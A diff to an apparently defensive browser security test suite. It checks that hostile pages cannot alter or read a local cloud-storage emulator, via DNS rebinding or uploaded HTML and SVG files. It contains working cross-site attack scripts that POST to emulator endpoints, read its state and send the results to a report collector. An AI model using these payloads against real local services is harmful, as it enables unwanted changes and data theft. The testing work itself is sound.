@@ -1,10 +1,15 @@
 /** What pages in a real browser can do to an emulator on the same machine. Left out where no Chromium is installed. */
 
 import { once } from 'node:events'
+import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs'
 import { createServer } from 'node:http'
 import { type AddressInfo, connect } from 'node:net'
+import { tmpdir } from 'node:os'
+import { join } from 'node:path'
 import AliOss from 'ali-oss'
 import { describe, expect, onTestFinished, test } from 'vitest'
+import { buildApp } from '../../emulator/server/app.js'
+import { createCloud } from '../../src/index.js'
 import { chromium, withPage } from '../support/chromium.js'
 import { VIDEO_URL } from '../support/cloud.js'
 import { testEmulator } from '../support/sdk.js'
@@ -12,9 +17,13 @@ import { testEmulator } from '../support/sdk.js'
 const CHANGES = ['/reset', '/scenarios/brown-out', '/accounts', '/accounts/fork', '/jobs/release', '/settle', '/clock/advance']
 
 /** Tries everything on the emulator at `target`, then sends what it could read to `report`. */
-const attack = (target: string, report: string): string => `<!doctype html><body><script type="module">
+const attack = (target: string, report: string): string => `<!doctype html><body><script type="module">${script(target, report)}</script>`
+
+const script = (target: string, report: string): string => `
   const api = '${target}/_emulator'
   const read = []
+  const root = document.body ?? document.documentElement
+  const make = (name) => document.createElementNS('http://www.w3.org/1999/xhtml', name)
   const tryTo = async (what, work) => {
     try {
       const text = await work()
@@ -22,10 +31,10 @@ const attack = (target: string, report: string): string => `<!doctype html><body
     } catch {}
   }
   const frame = (fill) => new Promise((resolve) => {
-    const made = document.createElement('iframe')
+    const made = make('iframe')
     made.onload = () => setTimeout(() => resolve(made), 200)
     fill(made)
-    document.body.append(made)
+    root.append(made)
   })
   for (const path of ${JSON.stringify(CHANGES)}) {
     await tryTo(path, () => fetch(api + path, { method: 'POST', mode: 'no-cors' }).then((it) => it.text()))
@@ -33,8 +42,8 @@ const attack = (target: string, report: string): string => `<!doctype html><body
     navigator.sendBeacon(api + path, '{"by":"1h"}')
     await tryTo(path, async () => {
       await frame((made) => { made.name = path })
-      const form = Object.assign(document.createElement('form'), { method: 'post', action: api + path, target: path })
-      document.body.append(form)
+      const form = Object.assign(make('form'), { method: 'post', action: api + path, target: path })
+      root.append(form)
       form.submit()
     })
     await frame((made) => {
@@ -45,8 +54,14 @@ const attack = (target: string, report: string): string => `<!doctype html><body
   await tryTo('PUT', () => fetch(api + '/clock', { method: 'PUT', headers: { 'content-type': 'application/json' }, body: '{"speed":7}' }).then((it) => it.text()))
   await tryTo('state', () => fetch(api + '/state').then((it) => it.text()))
   await tryTo('frame', async () => (await frame((made) => { made.src = api + '/state' })).contentDocument?.body.textContent)
+  await tryTo('live', () => fetch(api + '/live').then(async (it) => new TextDecoder().decode((await it.body.getReader().read()).value)))
+  await tryTo('EventSource', () => new Promise((resolve) => {
+    const source = new EventSource(api + '/live')
+    source.addEventListener('ready', () => resolve('ready'))
+    source.onerror = () => { source.close(); resolve('') }
+  }))
   await fetch('${report}', { method: 'POST', mode: 'no-cors', body: JSON.stringify(read) })
-</script>`
+`
 
 /** An emulator, and a page that the attacker serves: under `evil.example`, and everything else there leads to the emulator, as after rebinding. */
 async function world() {
@@ -131,7 +146,19 @@ describe.skipIf(chromium === undefined)('a page changes and reads nothing', () =
     expect(await changes()).toEqual(UNTOUCHED)
   })
 
-  test('that was uploaded with keys that everybody knows', async () => {
+  const page = (target: string, report: string) => attack(target, report)
+  // A picture has no frames and no forms, but scripts.
+  const picture = (target: string, report: string) => `<svg xmlns="http://www.w3.org/2000/svg"><script><![CDATA[
+    const ask = (path, options) => fetch('${target}/_emulator' + path, options).then((it) => it.text()).then((text) => text ? [[path, text]] : [], () => [])
+    Promise.all([ask('/accounts', { method: 'POST', mode: 'no-cors' }), ask('/assets', { method: 'DELETE' }), ask('/state')])
+      .then((read) => fetch('${report}', { method: 'POST', mode: 'no-cors', body: JSON.stringify(read.flat()) }))]]></script></svg>`
+
+  test.each([
+    ['text/html', page],
+    ['image/svg+xml', picture],
+    ['image/SVG+XML', picture],
+    ['image/png, text/html', page],
+  ])('that was uploaded as %s with keys that everybody knows', async (mime, content) => {
     const { cloud, url, port, report, changes } = await world()
     const { oss, credentials } = cloud.account()
     oss.createBucket('test-uploads', 'cn-shanghai')
@@ -141,10 +168,38 @@ describe.skipIf(chromium === undefined)('a page changes and reads nothing', () =
       bucket: 'test-uploads',
       ...credentials,
     } as AliOss.Options)
-    await client.put('page.html', Buffer.from(attack(url, `http://127.0.0.1:${port}/report`)), { mime: 'text/html' })
-    const { pathname, search } = new URL(client.signatureUrl('page.html'))
+    await client.put('page', Buffer.from(content(url, `http://127.0.0.1:${port}/report`)), { mime })
+    const { pathname, search } = new URL(client.signatureUrl('page'))
     const assets = () => cloud.account().assets.list().rows.length
     expect(await withPage(`${url}${pathname}${search}`, () => report)).toEqual([])
     expect([assets(), (await changes()).created]).toEqual([1, 0])
   })
+})
+
+test.skipIf(chromium === undefined)('a page of the console runs its own scripts, and none that was uploaded', async () => {
+  const folder = mkdtempSync(join(tmpdir(), 'console-'))
+  mkdirSync(join(folder, 'assets'))
+  const cloud = createCloud({ clock: 'manual' })
+  const app = buildApp(cloud, { consoleFolder: folder })
+  onTestFinished(async () => {
+    await app.close()
+    rmSync(folder, { recursive: true })
+  })
+  const { oss, assets } = cloud.account()
+  oss.createBucket('test-uploads', 'cn-shanghai')
+  await oss.putObject('test-uploads', 'evil.js', Buffer.from('globalThis.evil = 1'), { contentType: 'text/javascript', publicRead: true })
+  writeFileSync(
+    join(folder, 'index.html'),
+    `<!doctype html><script src="/test-uploads/evil.js"></script><script type="module" src="./assets/main.js"></script>`,
+  )
+  const put = (name: string) => `fetch('/_emulator/assets', {
+    method: 'PUT',
+    headers: { 'content-type': 'application/json' },
+    body: JSON.stringify([{ url: 'http://a.example/' + ${name} }]),
+  })`
+  writeFileSync(join(folder, 'assets/main.js'), put("'own-' + (globalThis.evil ?? 'alone')"))
+  const url = await app.listen({ port: 0, host: '127.0.0.1' })
+  expect(await (await fetch(`${url}/test-uploads/evil.js`)).text()).toBe('globalThis.evil = 1')
+  const found = () => assets.list().rows.map((asset) => asset.url)
+  await withPage(url, () => expect.poll(found).toEqual(['http://a.example/own-alone']))
 })
